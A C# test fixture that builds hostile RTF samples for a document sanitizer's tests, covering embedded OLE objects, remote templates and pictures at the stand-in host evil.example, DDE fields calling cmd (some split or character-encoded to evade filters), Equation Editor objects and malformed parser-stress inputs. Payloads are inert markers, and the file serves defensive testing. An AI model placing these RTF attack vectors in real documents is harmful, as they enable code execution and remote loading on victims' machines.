using System.Text;

namespace Sekisho.Sanitizer.Tests.Hostile;

/// <summary>Rows R-01 … R-11.</summary>
internal static class HostileRtf
{
    public static IEnumerable<HostileFile> All()
    {
        var ole = Convert.ToHexString([1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0, .. "Package\0"u8, 0, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, .. "KAMAKIRI"u8]);
        yield return New("R-01", "an object as hexadecimal", $"{{\\object\\objemb\\objw1{{\\*\\objdata {ole}}}{{\\result nokoru}}}}", "\\objdata");
        yield return New("R-01", "hexadecimal in pieces, with words and groups between", $"{{\\object\\objemb{{\\*\\objdata {ole[..40]}\r\n {{\\*\\junk}}\\par {ole[40..60]} \t{ole[60..]}}}}}", "\\objdata");
        yield return New("R-01", "hexadecimal that ends in a binary run", $"{{\\object\\objemb{{\\*\\objdata {ole}\\bin8 KAMAKIRI}}}}", "\\objdata");
        yield return New("R-01", "an object hidden in groups that readers skip", $"{{\\*\\zzz{{\\object{{\\objdata {ole}}}}}}}", "\\objdata");
        yield return New("R-02", "linked objects", "{\\object\\objautlink\\objlink\\objhtml\\objocx{\\*\\objclass Word.Document.8}{\\*\\linkval KAMAKIRI}{\\result x}}", "\\objautlink");
        yield return New("R-02", "a picture of a shape from outside", "{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/KAMAKIRI.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}}", "evil.example");
        yield return New("R-02", "a table of files and the next file", "{\\*\\filetbl{\\file\\fid1 KAMAKIRI.doc}}{\\*\\nextfile KAMAKIRI.rtf}", "\\filetbl", "nextfile");
        yield return New("R-03", "an object that brings itself up to date", $"{{\\object\\objautlink\\objupdate{{\\*\\objdata {ole}}}}}", "\\objupdate");
        yield return New("R-04", "a template from a server", "{\\*\\template http://evil.example/KAMAKIRI.dotm}", "\\template");
        yield return New("R-04", "a template in codes", "{\\*\\template \\u104?\\u116?\\'74p://evil.example/\\'4bAMAKIRI}", "\\template");
        foreach (var (what, field) in new[]
        {
            ("DDEAUTO split over groups", "{\\rtlch D}{DE}{AUTO} cmd KAMAKIRI"), ("DDE in codes", "\\'44\\u68?E c:\\\\\\\\cmd KAMAKIRI"), ("INCLUDEPICTURE", "INCLUDEPICTURE \"http://evil.example/KAMAKIRI.png\" \\\\d"), ("LINK", " LINK Excel.Sheet.8 \"KAMAKIRI.xls\""), ("INCLUDETEXT", "INCLUDETEXT \"//evil/KAMAKIRI\""), ("HYPERLINK to a share", "HYPERLINK \"file://evil/KAMAKIRI\""),
            ("a field in the instruction of a field", "{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} cmd KAMAKIRI"), ("MACROBUTTON", "MACROBUTTON KAMAKIRI x"), ("IMPORT", "IMPORT KAMAKIRI"),
        })
            yield return New("R-05", what, $"{{\\field{{\\*\\fldinst {field}}}{{\\fldrslt nokoru}}}}");
        yield return New("R-06", "the Equation Editor by its name and by its class", $"{{\\object\\objemb{{\\*\\objclass Equation.3 KAMAKIRI}}{{\\*\\objdata 010500000200000008000000{Convert.ToHexString("Equation.3"u8)}}}}}{{\\object\\objemb{{\\*\\objdata {Convert.ToHexString(new Cfb().Class("", "0002CE02-0000-0000-C000-000000000046").Add("Equation Native", "KAMAKIRI"u8.ToArray()).Build())}}}}}", "Equation");
        yield return New("R-06", "a link to a page (htmlfile, OLE2Link)", "{\\object\\objautlink{\\*\\objclass htmlfile}{\\*\\objdata 0105KAMAKIRI}}{\\object{\\*\\objclass OLE2Link}{\\*\\oleclsid KAMAKIRI}}", "htmlfile", "OLE2Link");
        yield return Whole("R-07", "an odd header", "{\\rt0\\object{\\*\\template http://evil.example/KAMAKIRI}nokoru}", "\\template");
        yield return Whole("R-07", "a control word without end", $"{{\\rtf1 nokoru \\{new string('a', 400)}KAMAKIRI x}}");
        yield return Whole("R-07", "a number of many digits", "{\\rtf1 nokoru \\objupdate00000000000000000000000001 {\\*\\template KAMAKIRI}}", "\\objupdate") ;
        yield return Whole("R-07", "data behind the last brace", "{\\rtf1 nokoru\\par}MZ KAMAKIRI {\\object\\objupdate}", "\\objupdate");
        yield return Whole("R-07", "braces that aren't closed", "{\\rtf1 nokoru\\par{\\*\\template KAMAKIRI{{{{", "\\template");
        yield return Whole("R-07", "groups without end", "{\\rtf1 " + string.Concat(Enumerable.Repeat("{", 5_000)) + "{\\*\\template KAMAKIRI}") with { Refused = "SAN-RTF-002" };
        yield return New("R-08", "stores", $"{{\\*\\datastore {Convert.ToHexString("KAMAKIRI KAMAKIRI"u8)}}}{{\\*\\themedata {Convert.ToHexString("KAMAKIRI"u8)}}}{{\\*\\xmlnstbl{{\\xmlns1 KAMAKIRI}}}}{{\\*\\docvar{{KAMAKIRI}}{{x}}}}{{\\*\\htmltag <script>KAMAKIRI</script>}}", "\\datastore", "\\themedata", "<script>");
        yield return New("R-08", "a group that nobody knows", "{\\*\\kamakiri KAMAKIRI}");
        yield return New("R-09", "a binary run with braces in it", "{\\*\\zzz\\bin20 }{KAMAKIRI}}}}}}}}}}nokoru}");
        yield return Whole("R-09", "a binary run longer than the file", "{\\rtf1 nokoru {\\pict\\bin99999 KAMAKIRI}}") with { Refused = "SAN-RTF-003" };
        yield return Whole("R-09", "a binary run that hides the end", "{\\rtf1 nokoru {\\bin9 KAMAKIRI}}x}");
        yield return New("R-10", "properties", "{\\info{\\author KAMAKIRI}{\\operator KAMAKIRI}}{\\*\\userprops{\\propname KAMAKIRI}}{\\*\\rsidtbl \\rsid123}{\\*\\generator KAMAKIRI}", "\\info", "\\author");
        yield return New("R-11", "an embedded font", "{\\fonttbl{\\f1{\\*\\fontemb\\ftruetype " + Convert.ToHexString("KAMAKIRI"u8) + "}Arial;}}", "\\fontemb");
    }

    private static HostileFile New(string threat, string what, string inside, params string[] needles) => Whole(threat, what, $"{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Arial;}}}}nokoru\\par {inside}\\par}}", needles);

    private static HostileFile Whole(string threat, string what, string rtf, params string[] needles) => new(threat, what, "a.rtf", Encoding.Latin1.GetBytes(rtf), [HostileFile.Mark, .. needles]) { Kept = ["nokoru"] };
}
